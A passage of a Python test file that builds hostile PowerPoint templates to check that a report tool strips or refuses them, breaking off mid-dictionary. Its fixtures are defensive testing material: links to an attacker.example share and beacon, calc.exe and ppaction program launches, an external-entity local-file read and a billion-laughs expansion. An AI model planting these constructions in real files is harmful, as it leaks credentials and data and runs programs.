"""A `--template` deck built to get past the look: each is reduced to its look, or refused with exit 2.

A template is a file someone else made. Its document properties can sit under other names than
docProps/; its master can fetch a picture from a web server or a Windows share when the deck is
shown; a part can be smuggled in under a kind of relationship the look keeps (a slide as a layout, a
data store as a theme, a picture nothing shows); shapes can hide, and so can alternative text,
comments and extensions; an XML part can declare entities that read a local file or blow up; and a
template can be broken, enormous, or not a file at all. Each template here is python-pptx's own deck
with one such change made in its zip, as an attacker would make it.
"""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
import zipfile

import pytest
from pptx import Presentation
from typer.testing import CliRunner

from _report_repo import ACCOUNT, copy_plain
from conftest import TODAY
from test_report_deck_template import SOFFICE, every_part

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PML = "application/vnd.openxmlformats-officedocument.presentationml."
MASTER = "ppt/slideMasters/slideMaster1.xml"
THEME = "ppt/theme/theme1.xml"


def png(text: str = "SECRET-PNG-TEXT") -> bytes:
    """A 20×10 red PNG carrying `text` in a text chunk."""
    from PIL import Image, PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Author", text)
    buf = io.BytesIO()
    Image.new("RGB", (20, 10), (200, 30, 30)).save(buf, "PNG", pnginfo=info)
    return buf.getvalue()


def jpeg() -> bytes:
    """A 20×10 red progressive JPEG with EXIF (artist, description), a comment and a colour profile."""
    from PIL import Image

    exif = Image.Exif()
    exif[0x013B], exif[0x010E] = "SECRET-EXIF-ARTIST", "SECRET-EXIF-DESCRIPTION"
    buf = io.BytesIO()
    Image.new("RGB", (20, 10), (200, 30, 30)).save(buf, "JPEG", exif=exif.tobytes(), comment=b"SECRET-COMMENT",
                                                   progressive=True, icc_profile=b"colour profile")
    return buf.getvalue()


def picture(n: int, blip: str) -> bytes:
    """A picture shape on a slide master showing `blip` (its attributes)."""
    return (f'<p:pic><p:nvPicPr><p:cNvPr id="{n}" name="pic {n}"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>'
            f'<a:blip {blip}/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/>'
            f'<a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr>'
            f'</p:pic>').encode()


def package() -> dict[str, bytes]:
    """python-pptx's own deck, part by part."""
    buf = io.BytesIO()
    Presentation().save(buf)
    with zipfile.ZipFile(buf) as z:
        return {n: z.read(n) for n in z.namelist()}


def relate(parts, owner: str, rid: str, reltype: str, target: str, external: bool = False) -> None:
    folder, file = owner.rsplit("/", 1) if "/" in owner else ("", owner)
    name = f"{folder}/_rels/{file}.rels" if folder else f"_rels/{file}.rels"
    parts.setdefault(name, b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships '
                           b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
    mode = ' TargetMode="External"' if external else ""
    parts[name] = parts[name].replace(
        b"</Relationships>", f'<Relationship Id="{rid}" Type="{reltype}" Target="{target}"{mode}/></Relationships>'.encode())


def typed(parts, name: str, ctype: str) -> None:
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", f'<Override PartName="/{name}" ContentType="{ctype}"/></Types>'.encode())


def on_master(parts, xml: bytes) -> None:
    parts[MASTER] = parts[MASTER].replace(b"</p:spTree>", xml + b"</p:spTree>", 1)


def save(path, parts, extra=()) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in [*parts.items(), *extra]:
            z.writestr(name, body)


@pytest.fixture(scope="module")
def portfolio(tmp_path_factory):
    return copy_plain(tmp_path_factory.mktemp("hostile-template") / "portfolio")


@pytest.fixture
def client_deck(portfolio, tmp_path, monkeypatch):
    """Make the client's deck on the template `parts`: (exit code, output, the deck's bytes or None)."""
    from kaplan.cli.app import app

    def make(parts, extra=()):
        template = tmp_path / "company.pptx"
        save(template, parts, extra)
        out = tmp_path / "client.pptx"
        monkeypatch.chdir(portfolio)
        r = CliRunner().invoke(app, ["report", ACCOUNT, "--audience", "client", "-f", "pptx", "--template",
                                     str(template), "--today", TODAY.isoformat(), "-o", str(out)])
        return r.exit_code, r.output, out.read_bytes() if out.exists() else None

    return make


def no_secret(data: bytes) -> dict[str, bytes]:
    parts = every_part(data)
    for name, body in parts.items():
        assert b"SECRET" not in body, (name, re.findall(rb"SECRET[-\w]*", body))
    return parts


def test_the_templates_properties_are_dropped_wherever_they_are_and_the_packs_written(client_deck):
    """core.xml and app.xml under other names (the package's relationships say where), and custom properties."""
    parts = package()
    core, app = parts.pop("docProps/core.xml"), parts.pop("docProps/app.xml")
    parts["meta/c.xml"] = re.sub(rb"<dc:title>.*?</dc:title>|<dc:title/>", b"", core).replace(
        b"</cp:coreProperties>", b"<dc:title>SECRET-TITLE</dc:title><dc:creator>SECRET-AUTHOR</dc:creator>"
                                 b"<cp:keywords>SECRET-KEYWORDS</cp:keywords></cp:coreProperties>")
    parts["meta/a.xml"] = app.replace(b"</Properties>", b"<Company>SECRET-COMPANY</Company>"
                                                        b"<HyperlinkBase>file://///host/SECRET-BASE</HyperlinkBase></Properties>")
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(b'Target="docProps/core.xml"', b'Target="/meta/c.xml"').replace(
        b'Target="docProps/app.xml"', b'Target="meta/a.xml"')
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"/docProps/core.xml", b"/meta/c.xml").replace(
        b"/docProps/app.xml", b"/meta/a.xml")
    parts["meta/u.xml"] = (b'<?xml version="1.0" encoding="UTF-8"?><Properties xmlns="http://schemas.openxmlformats.org/'
                           b'officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/'
                           b'officeDocument/2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}"'
                           b' pid="2" name="Deal"><vt:lpwstr>SECRET-CUSTOM</vt:lpwstr></property></Properties>')
    typed(parts, "meta/u.xml", "application/vnd.openxmlformats-officedocument.custom-properties+xml")
    relate(parts, ".rels", "rId90", REL + "custom-properties", "meta/u.xml")
    code, output, deck = client_deck(parts)
    assert code == 0, output
    made = no_secret(deck)
    assert not any(name.startswith("meta/") for name in made)
    rels = made["_rels/.rels"].decode()
    assert rels.count("core-properties") == 1 and rels.count("extended-properties") == 1 and "custom" not in rels
    assert "/meta/" not in made["[Content_Types].xml"].decode()
    prs = Presentation(io.BytesIO(deck))
    assert prs.core_properties.title == "Acme Retail Group · progress report · 2026-11-24"
    assert prs.core_properties.author == "" and prs.core_properties.keywords == ""


def test_nothing_outside_the_file_is_reached_from_a_deck(client_deck):
    """A master whose background is a picture on a Windows share (a reader hands the share its
    credentials), a picture fetched from a web server, a picture both embedded and linked, and links
    whose relationships claim to be pictures: no relationship of the deck leads outside it."""
    parts = package()
    parts["ppt/media/logo.png"] = png("company logo")
    typed(parts, "ppt/media/logo.png", "image/png")
    relate(parts, MASTER, "rId90", REL + "image", "file://///attacker.example/share/SECRET-UNC.png", external=True)
    relate(parts, MASTER, "rId91", REL + "image", "https://attacker.example/SECRET-BEACON.png", external=True)
    relate(parts, MASTER, "rId92", REL + "image", "../media/logo.png")
    relate(parts, MASTER, "rId93", REL + "image", "https://attacker.example/SECRET-LINK", external=True)
    relate(parts, MASTER, "rId94", REL + "image", "file:///C:/Windows/System32/calc.exe", external=True)
    parts[MASTER] = parts[MASTER].replace(b"<p:cSld>", b'<p:cSld><p:bg><p:bgPr><a:blipFill><a:blip r:link="rId90"/>'
                                          b'<a:stretch><a:fillRect/></a:stretch></a:blipFill><a:effectLst/></p:bgPr></p:bg>', 1)
    parts[MASTER] = re.sub(rb"<p:bg>\s*<p:bgRef.*?</p:bg>", b"", parts[MASTER], count=1, flags=re.S)
    on_master(parts, picture(70, 'r:link="rId91"') + picture(71, 'r:embed="rId92" r:link="rId90"')
              + b'<p:sp><p:nvSpPr><p:cNvPr id="72" name="footer"><a:hlinkClick r:id="rId94"/></p:cNvPr><p:cNvSpPr '
                b'txBox="1"/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="en-US">'
                b'<a:hlinkClick r:id="rId93" tooltip="SECRET-TOOLTIP"/></a:rPr><a:t>Acme Corp</a:t></a:r><a:r><a:rPr>'
                b'<a:hlinkClick r:id="" action="ppaction://program?file=calc.exe"/></a:rPr><a:t> run</a:t></a:r>'
                b'</a:p></p:txBody></p:sp>')
    code, output, deck = client_deck(parts)
    assert code == 0, output
    made = no_secret(deck)
    for name, body in made.items():
        if name.endswith(".rels"):
            assert b'TargetMode="External"' not in body, name
        assert b"attacker" not in body and b"calc.exe" not in body and b"ppaction" not in body, name
    master = made[MASTER].decode()
    assert "r:link" not in master and "hlinkClick" not in master and "<p:bg>" not in master
    # the picture both embedded and linked keeps what it embeds; the footer keeps its words
    prs = Presentation(io.BytesIO(deck))
    shapes = [sh for sh in prs.slide_master.shapes if not sh.is_placeholder]
    assert [sh.shape_type.name for sh in shapes] == ["PICTURE", "TEXT_BOX"]
    assert shapes[0].image.size == (20, 10) and b"company logo" not in shapes[0].image.blob  # its text chunk
    assert shapes[1].text_frame.text == "Acme Corp run"


def test_a_masters_transition_sound_goes_whole(client_deck):
    """A sound is no part of the look: the transition keeps no empty sound action (a reader would
    call the file broken), and the sound is not in the deck."""
    parts = package()
    parts["ppt/media/chime.wav"] = b"RIFF\x00\x00\x00\x00WAVESECRET-SOUND"
    typed(parts, "ppt/media/chime.wav", "audio/wav")
    relate(parts, MASTER, "rId90", REL + "audio", "../media/chime.wav")
    parts[MASTER] = parts[MASTER].replace(b"<p:txStyles>", b'<p:transition><p:fade/><p:sndAc><p:stSnd>'
                                                           b'<p:snd r:embed="rId90" name="SECRET-chime.wav"/></p:stSnd>'
                                                           b'</p:sndAc></p:transition><p:txStyles>', 1)
    code, output, deck = client_deck(parts)
    assert code == 0, output
    master = no_secret(deck)[MASTER].decode()
    assert "<p:fade/>" in master and "sndAc" not in master and "stSnd" not in master


def test_parts_smuggled_under_the_kinds_the_look_keeps_are_dropped(client_deck):
    """A slide the master lists as a layout, and one it relates as a layout without listing it; a data
    store the presentation relates as its theme; a picture the theme relates but shows nowhere; a
    layout that is the theme; a layout listed twice; a master and a layout listed that are not there."""
    parts = package()
    slide = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><p:sld xmlns:a="http://schemas.openxmlformats.org/'
             b'drawingml/2006/main" xmlns:r="' + REL[:-1].encode() + b'" xmlns:p="http://schemas.openxmlformats.org/'
             b'presentationml/2006/main"><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/>'
             b'</p:nvGrpSpPr><p:grpSpPr/><p:sp><p:nvSpPr><p:cNvPr id="2" name="t"/><p:cNvSpPr txBox="1"/><p:nvPr/>'
             b'</p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:p><a:r><a:t>SECRET-SMUGGLED-SLIDE</a:t></a:r></a:p>'
             b'</p:txBody></p:sp></p:spTree></p:cSld></p:sld>')
    for n in (1, 2):
        parts[f"ppt/slides/hidden{n}.xml"] = slide
        typed(parts, f"ppt/slides/hidden{n}.xml", PML + "slide+xml")
        relate(parts, f"ppt/slides/hidden{n}.xml", "rId1", REL + "slideLayout", "../slideLayouts/slideLayout1.xml")
    relate(parts, MASTER, "rId97", REL + "slideLayout", "../slides/hidden1.xml")
    relate(parts, MASTER, "rId98", REL + "slideLayout", "../slides/hidden2.xml")
    relate(parts, MASTER, "rId99", REL + "slideLayout", "../theme/theme1.xml")
    parts[MASTER] = parts[MASTER].replace(
        b"<p:sldLayoutIdLst>", b'<p:sldLayoutIdLst><p:sldLayoutId id="2147483690" r:id="rId99"/>'
                               b'<p:sldLayoutId id="2147483691" r:id="rId97"/><p:sldLayoutId id="2147483692" r:id="rId1"/>', 1)
    parts[MASTER] = parts[MASTER].replace(b"</p:sldLayoutIdLst>",
                                          b'<p:sldLayoutId id="2147483693" r:id="rId77"/></p:sldLayoutIdLst>', 1)
    parts["ppt/presentation.xml"] = parts["ppt/presentation.xml"].replace(
        b"<p:sldMasterIdLst>", b'<p:sldMasterIdLst><p:sldMasterId id="2147483600" r:id="rId77"/>', 1)
    parts["customXml/item9.xml"] = b"<pricing>SECRET-CUSTOMXML-AS-THEME</pricing>"
    relate(parts, "ppt/presentation.xml", "rId96", REL + "theme", "../customXml/item9.xml")
    parts["ppt/media/unused.png"] = png()
    typed(parts, "ppt/media/unused.png", "image/png")
    relate(parts, THEME, "rId95", REL + "image", "../media/unused.png")
    code, output, deck = client_deck(parts)
    assert code == 0, output
    made = no_secret(deck)
    assert not any(name.startswith(("customXml", "ppt/media/unused", "ppt/slides/hidden")) for name in made)
    prs = Presentation(io.BytesIO(deck))
    assert len(prs.slide_layouts) == 11  # python-pptx's own, each once
    assert len({id(layout.part) for layout in prs.slide_layouts}) == 11


def test_a_picture_keeps_what_it_shows_and_nothing_it_carries_besides(client_deck):
    """A JPEG's EXIF, comment, segments under markers the standard reserves (JPGn, JPG, RES) and what
    follows its end, a PNG's text chunks and what follows its end are not kept; the pictures still show the same pixels. A "PNG" that is not one, and an SVG (a
    document that may fetch from the network), are dropped with the shapes that showed them."""
    from PIL import Image

    parts = package()
    def segment(marker: int, body: bytes) -> bytes:  # a marker the standard reserves, with a length as it allows
        return bytes((0xFF, marker)) + (len(body) + 2).to_bytes(2, "big") + body

    reserved = segment(0xF7, b"SECRET-JPG7") + segment(0xC8, b"SECRET-JPG") + segment(0x02, b"SECRET-RES")
    media = {"a.jpeg": (jpeg()[:2] + reserved + jpeg()[2:] + b"SECRET-AFTER-JPEG", "image/jpeg"), "b.png": (png() + b"SECRET-AFTER-PNG", "image/png"),
             "c.png": (b"PK\x03\x04SECRET-NOT-A-PNG", "image/png"),
             "d.svg": (b'<svg xmlns="http://www.w3.org/2000/svg"><image href="https://example.invalid/SECRET-SVG"/></svg>',
                       "image/svg+xml")}
    for n, (name, (body, ctype)) in enumerate(media.items()):
        parts[f"ppt/media/{name}"] = body
        typed(parts, f"ppt/media/{name}", ctype)
        relate(parts, MASTER, f"rId{90 + n}", REL + "image", f"../media/{name}")
        on_master(parts, picture(70 + n, f'r:embed="rId{90 + n}"'))
    code, output, deck = client_deck(parts)
    assert code == 0, output
    made = no_secret(deck)
    assert not any(name.endswith((".svg", "c.png")) for name in made)
    prs = Presentation(io.BytesIO(deck))
    shown = [sh for sh in prs.slide_master.shapes if not sh.is_placeholder]
    assert [sh.image.content_type for sh in shown] == ["image/jpeg", "image/png"]
    for sh in shown:
        image = Image.open(io.BytesIO(sh.image.blob))
        image.load()
        assert image.size == (20, 10)
        red, green, blue = image.convert("RGB").getpixel((10, 5))[:3]
        assert red > 180 and green < 60 and blue < 60
    assert b"colour profile" in shown[0].image.blob  # the JPEG's colour profile stays: it is how it shows


def test_what_a_master_does_not_show_is_taken_out_and_names_to_pick_by_stay(client_deck):
    """A hidden shape, alternative text, comments, processing instructions and extensions on the
    master, a layout and the theme; the layout's and the theme's names are kept."""
    parts = package()
    on_master(parts, b'<p:sp><p:nvSpPr><p:cNvPr id="99" name="SECRET-SHAPENAME" hidden="1"/><p:cNvSpPr txBox="1"/>'
                     b'<p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:t>SECRET-HIDDEN-TEXT'
                     b'</a:t></a:r></a:p></p:txBody></p:sp><p:sp><p:nvSpPr><p:cNvPr id="98" name="SECRET-NAME" '
                     b'descr="SECRET-ALT-TEXT" title="SECRET-ALT-TITLE"/><p:cNvSpPr txBox="1"/><p:nvPr/></p:nvSpPr>'
                     b'<p:spPr/><p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:t>before<!-- SECRET-IN-TEXT -->after'
                     b'</a:t></a:r></a:p></p:txBody></p:sp>')
    parts[MASTER] = parts[MASTER].replace(b"<p:cSld>", b"<!-- SECRET-COMMENT --><?secret SECRET-PI?><p:cSld>", 1)
    parts[MASTER] = parts[MASTER].replace(b"</p:sldMaster>", b'<p:extLst><p:ext uri="{SECRET-EXT}"><x:s xmlns:x="urn:x">'
                                                            b'SECRET-EXTLST</x:s></p:ext></p:extLst></p:sldMaster>')
    layout = "ppt/slideLayouts/slideLayout2.xml"
    parts[layout] = re.sub(rb'<p:cSld name="[^"]*"', b'<p:cSld name="Acme Title and Content"', parts[layout], count=1)
    parts[layout] = parts[layout].replace(b"<p:spTree>", b"<p:spTree><!-- SECRET-LAYOUT-COMMENT -->", 1)
    parts[THEME] = parts[THEME].replace(b'name="Office Theme"', b'name="Acme Theme"', 1).replace(
        b"<a:themeElements>", b"<!-- SECRET-THEME-COMMENT --><a:themeElements>", 1).replace(
        b"</a:theme>", b'<a:extLst><a:ext uri="{SECRET-THEME-EXT}"><x:s xmlns:x="urn:x">SECRET-THEME-EXTLST</x:s>'
                       b'</a:ext></a:extLst></a:theme>')
    code, output, deck = client_deck(parts)
    assert code == 0, output
    made = no_secret(deck)
    assert b"Acme Theme" in made[THEME]
    prs = Presentation(io.BytesIO(deck))
    assert "Acme Title and Content" in [layout.name for layout in prs.slide_layouts]
    shown = [sh for sh in prs.slide_master.shapes if not sh.is_placeholder]
    assert [sh.text_frame.text for sh in shown] == ["beforeafter"]  # the comment's own text gone, the rest kept
    assert shown[0].name == "Shape 98"


def _text_shape(n: int, text: str, hidden: str | None = None, prefix: str = "p") -> bytes:
    """A text box on a slide (`p`), or in a locked canvas (`a`), optionally hidden."""
    h = "" if hidden is None else f' hidden="{hidden}"'
    if prefix == "a":
        return (f'<a:sp><a:nvSpPr><a:cNvPr id="{n}" name="SECRET-LC-NAME" descr="SECRET-LC-ALT" title="SECRET-LC-TITLE"'
                f'{h}/><a:cNvSpPr/></a:nvSpPr><a:spPr/><a:txSp><a:txBody><a:bodyPr/><a:p><a:r><a:t>{text}</a:t></a:r>'
                f'</a:p></a:txBody><a:useSpRect/></a:txSp></a:sp>').encode()
    return (f'<p:sp><p:nvSpPr><p:cNvPr id="{n}" name="s"{h}/><p:cNvSpPr txBox="1"/><p:nvPr/></p:nvSpPr><p:spPr/>'
            f'<p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp>').encode()


def test_what_only_some_readers_show_or_none_is_taken_out(client_deck):
    """Hidden written as an XML boolean may be padded (" 1", "true ", a tab and a newline); a locked
    canvas's shapes carry alternative text and can hide; of alternative content a reader shows one
    choice it understands or the fallback, so only the fallback stays; what is in a namespace declared
    ignorable a reader may skip, and it goes; an embedded font whose file is gone loses its name too."""
    parts = package()
    on_master(parts, b"".join(_text_shape(90 + n, f"SECRET-HIDDEN-{n}", hidden)
                              for n, hidden in enumerate([" 1", "true ", "\t1\n"])))
    on_master(parts, b'<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="70" name="f"/><p:cNvGraphicFramePr/><p:nvPr/>'
                     b'</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></p:xfrm>'
                     b'<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/lockedCanvas">'
                     b'<lc:lockedCanvas xmlns:lc="http://schemas.openxmlformats.org/drawingml/2006/lockedCanvas">'
                     b'<a:nvGrpSpPr><a:cNvPr id="0" name="SECRET-LC-GROUP" descr="SECRET-LC-GROUP-ALT"/><a:cNvGrpSpPr/>'
                     b'</a:nvGrpSpPr><a:grpSpPr/>' + _text_shape(2, "CANVAS-SHOWN", prefix="a")
                     + _text_shape(3, "SECRET-LC-HIDDEN", " true", prefix="a")
                     + b"</lc:lockedCanvas></a:graphicData></a:graphic></p:graphicFrame>")
    on_master(parts, b'<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
                     b'<mc:Choice xmlns:x2="urn:x2" Requires="x2"><x2:x>SECRET-CHOICE</x2:x>'
                     + _text_shape(60, "SECRET-CHOICE-TEXT") + b"</mc:Choice><mc:Fallback>"
                     + _text_shape(61, "FALLBACK-SHOWN") + b"</mc:Fallback></mc:AlternateContent>")
    ignorable = (b' xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:sx="urn:sx" '
                 b'mc:Ignorable="sx" sx:note="SECRET-IGNORABLE-ATTRIBUTE" ')
    parts[MASTER] = parts[MASTER].replace(b"<p:sldMaster ", b"<p:sldMaster" + ignorable, 1).replace(
        b"<p:cSld>", b"<sx:data>SECRET-IGNORABLE-ELEMENT</sx:data><p:cSld>", 1)
    parts[THEME] = parts[THEME].replace(b"<a:theme ", b"<a:theme" + ignorable, 1).replace(
        b"<a:themeElements>", b"<sx:data>SECRET-IGNORABLE-THEME</sx:data><a:themeElements>", 1)
    relate(parts, "ppt/presentation.xml", "rId77", REL + "font", "https://fonts.example/f.fntdata", external=True)
    parts["ppt/presentation.xml"] = parts["ppt/presentation.xml"].replace(
        b"<p:defaultTextStyle>", b'<p:embeddedFontLst><p:embeddedFont><p:font typeface="SECRET-FONTFACE"/>'
                                 b'<p:regular r:id="rId77"/></p:embeddedFont></p:embeddedFontLst><p:defaultTextStyle>', 1)
    template = io.BytesIO()
    save(template, parts)
    assert len(Presentation(template).slide_master.shapes) == 5 + 3 + 1  # placeholders, hidden boxes, the frame
    code, output, deck = client_deck(parts)
    assert code == 0, output
    made = no_secret(deck)
    assert b"embeddedFontLst" not in made["ppt/presentation.xml"] and b"Ignorable" not in made[MASTER]
    master = Presentation(io.BytesIO(deck)).slide_master
    shown = [sh for sh in master.shapes if not sh.is_placeholder]
    assert [sh.text_frame.text if sh.has_text_frame else "frame" for sh in shown] == ["frame", "FALLBACK-SHOWN"]
    assert b"CANVAS-SHOWN" in made[MASTER]


def test_data_no_reader_shows_is_not_carried_in_namespaces_text_settings_or_ids(client_deck):
    """What PowerPoint neither shows nor needs goes, however it is put: an element of a namespace of its
    own, one of the standard's that is no shape in a shape tree, an attribute of another namespace, words between the master's elements, a setting of presentation.xml
    that is not the look (`kinsoku`), a relationship id of the template's and the ids of its lists of
    masters and layouts (numbers of its own choosing)."""
    parts = package()
    on_master(parts, b'<x:d xmlns:x="urn:evil">SECRET-FOREIGN-ELEMENT</x:d><p:d v="SECRET-NOT-A-SHAPE"/>')
    parts[MASTER] = parts[MASTER].replace(
        b"<p:spTree>", b'<p:spTree xmlns:y="urn:evil2" y:s="SECRET-FOREIGN-ATTR" xml:lang="SECRET-XML-LANG">SECRET-TEXT-NODE', 1)
    parts["ppt/presentation.xml"] = parts["ppt/presentation.xml"].replace(
        b"<p:defaultTextStyle", b'<p:kinsoku lang="ja-JP" invalStChars="SECRET-KINSOKU" invalEndChars="x"/>'
                                b'<p:defaultTextStyle', 1).replace(b'id="2147483648"', b'id="2147480041"')
    parts[MASTER_RELS] = parts[MASTER_RELS].replace(b'Id="rId1"', b'Id="SECRET-RID-price-floor-41k"')
    parts[MASTER] = parts[MASTER].replace(b'r:id="rId1"', b'r:id="SECRET-RID-price-floor-41k"')
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(b'Id="rId1"', b'Id="SECRET-RID-package"')
    code, output, deck = client_deck(parts)
    assert code == 0, output
    made = no_secret(deck)
    for name, body in made.items():
        assert b"urn:evil" not in body and b"kinsoku" not in body, name
        if name.endswith(".rels"):  # rId1, rId2… in turn
            ids = [i for i in re.findall(rb'Id="([^"]*)"', body) if not i.startswith(b"rIdProps")]  # the pack's own
            assert sorted(ids) == sorted(f"rId{n}".encode() for n in range(1, len(ids) + 1)), (name, ids)
    presentation = made["ppt/presentation.xml"].decode()
    # one master, then its 11 layouts: 2**31 = 2147483648, and 2147483649 … 2147483659
    assert re.findall(r'<p:sldMasterId id="(\d+)"', presentation) == ["2147483648"]
    assert re.findall(r'<p:sldLayoutId id="(\d+)"', made[MASTER].decode()) == [str(2147483649 + n) for n in range(11)]
    prs = Presentation(io.BytesIO(deck))
    assert len(prs.slide_master.slide_layouts) == 11 and len(prs.slide_master.placeholders) == 5


def test_the_standards_own_namespaces_are_never_ignorable(client_deck):
    """A master declaring the presentation, drawing and relationship namespaces ignorable keeps them:
    every reader reads the standard, so its shapes and layouts stay."""
    parts = package()
    parts[MASTER] = parts[MASTER].replace(b"<p:sldMaster ", b'<p:sldMaster xmlns:mc="http://schemas.openxmlformats.org/'
                                                           b'markup-compatibility/2006" mc:Ignorable="p a r" ', 1)
    code, output, deck = client_deck(parts)
    assert code == 0, output
    master = Presentation(io.BytesIO(deck)).slide_master
    assert len(master.slide_layouts) == 11 and len(master.placeholders) == 5


@pytest.mark.parametrize("kind", ["external", "billion-laughs"])
def test_an_xml_part_that_declares_a_doctype_is_refused(client_deck, tmp_path, kind):
    """An external entity would copy a local file into the deck (lxml < 5 resolved them); nested
    internal ones multiply a few bytes into gigabytes. No Office part declares a DOCTYPE."""
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-LOCAL-FILE")
    parts = package()
    body = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", parts[THEME])
    if kind == "external":
        doctype = f'<!DOCTYPE a:theme [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'.encode()
    else:
        doctype = (b'<!DOCTYPE a:theme [<!ENTITY a "aaaaaaaaaa">'
                   + b"".join(b'<!ENTITY %c "%s">' % (98 + i, (b"&%c;" % (97 + i)) * 10) for i in range(8)) + b"]>")
    parts[THEME] = b'<?xml version="1.0"?>' + doctype + body.replace(b'name="Office Theme"', b'name="&x;"'
                                                                      if kind == "external" else b'name="&i;"', 1)
    relate(parts, THEME, "rId5", REL + "hyperlink", "https://example.invalid/", external=True)
    code, output, deck = client_deck(parts)
    assert code == 2 and deck is None, output
    assert "company.pptx" in output and "ppt/theme/theme1.xml" in output and "Traceback" not in output
    assert "SECRET" not in output


def _drop_layouts(parts):
    parts[MASTER] = re.sub(rb"<p:sldLayoutIdLst>.*?</p:sldLayoutIdLst>", b"", parts[MASTER], flags=re.S)
    rels = "ppt/slideMasters/_rels/slideMaster1.xml.rels"
    parts[rels] = re.sub(rb'<Relationship Id="rId\d+" Type="[^"]*slideLayout" Target="[^"]*"/>', b"", parts[rels])


def _size(cx: str):
    def change(parts):
        parts["ppt/presentation.xml"] = re.sub(rb"<p:sldSz[^>]*/>", f'<p:sldSz cx="{cx}" cy="6858000"/>'.encode(),
                                               parts["ppt/presentation.xml"])
    return change


def _set(name: str, body: bytes):
    def change(parts):
        parts[name] = body
    return change


def _replace(name: str, old: bytes, new: bytes):
    def change(parts):
        assert old in parts[name]
        parts[name] = parts[name].replace(old, new, 1)
    return change


def _then(*changes):
    def change(parts):
        for one in changes:
            one(parts)
    return change


LAYOUT2 = "ppt/slideLayouts/slideLayout2.xml"
MASTER_RELS = "ppt/slideMasters/_rels/slideMaster1.xml.rels"
_A_PICTURE = _then(_set("ppt/media/logo.png", png("")), lambda parts: typed(parts, "ppt/media/logo.png", "image/png"),
                   lambda parts: relate(parts, MASTER, "rId90", REL + "image", "../media/logo.png"))
BROKEN = {
    # what python-pptx cannot follow as a deck is built: its structure, checked once it is reduced
    "a layout list naming a picture": (_then(_A_PICTURE, _replace(MASTER, b'r:id="rId1"/>', b'r:id="rId90"/>')),
                                       "the list of layouts of its slide master 1 names its image, which is not a slideLayout"),
    "a layout list naming the theme": (_replace(MASTER, b'r:id="rId1"/>', b'r:id="rId12"/>'),
                                       "the list of layouts of its slide master 1 names its theme, which is not a slideLayout"),
    "a master list naming the theme": (_replace("ppt/presentation.xml", b'<p:sldMasterId id="2147483648" r:id="rId1"/>',
                                                b'<p:sldMasterId id="2147483648" r:id="rId5"/>'),
                                       "its list of slide masters names nothing, which is not a slideMaster"),
    "a relationship id used twice": (_then(_A_PICTURE, _replace(MASTER_RELS, b'Id="rId90"', b'Id="rId1"')),
                                     f"its part {MASTER_RELS} gives two relationships the id rId1"),
    "letters for a placeholder index": (_replace(LAYOUT2, b'<p:ph idx="1"/>', b'<p:ph idx="abc"/>'),
                                        "its layout 'Title and Content' has idx='abc'"),
    "a placeholder index over 32 bits": (_replace(LAYOUT2, b'<p:ph idx="1"/>', b'<p:ph idx="4294967296"/>'),
                                         "its layout 'Title and Content' has idx='4294967296'"),  # 2**32
    "a placeholder type of no kind": (_replace(LAYOUT2, b'<p:ph type="title"/>', b'<p:ph type="bogus"/>'),
                                      "its layout 'Title and Content' has type='bogus'"),
    "package relationships holding another element": (
        _replace("_rels/.rels", b"</Relationships>", b'<x:junk xmlns:x="urn:x"/></Relationships>'),
        "its part _rels/.rels holds <junk>, not a relationship"),

    "a layout without its common slide data": (
        lambda parts: parts.__setitem__(LAYOUT2, re.sub(rb"<p:cSld.*</p:cSld>", b"", parts[LAYOUT2], flags=re.S)),
        "its layout /ppt/slideLayouts/slideLayout2.xml has no <cSld>"),
    "a master without its shape tree": (
        lambda parts: parts.__setitem__(MASTER, re.sub(rb"<p:spTree>.*</p:spTree>", b"", parts[MASTER], flags=re.S)),
        "its slide master /ppt/slideMasters/slideMaster1.xml has no <spTree> in its <cSld>"),
    "a master whose root is a slide's": (
        _then(_replace(MASTER, b"<p:sldMaster ", b"<p:sld "), _replace(MASTER, b"</p:sldMaster>", b"</p:sld>")),
        "its slide master /ppt/slideMasters/slideMaster1.xml is <sld>, not <sldMaster>"),
    "a layout whose root is a master's": (
        _then(_replace(LAYOUT2, b"<p:sldLayout ", b"<p:sldMaster "), _replace(LAYOUT2, b"</p:sldLayout>", b"</p:sldMaster>")),
        "its layout /ppt/slideLayouts/slideLayout2.xml is <sldMaster>, not <sldLayout>"),
    "a notes page's slide image on a layout": (
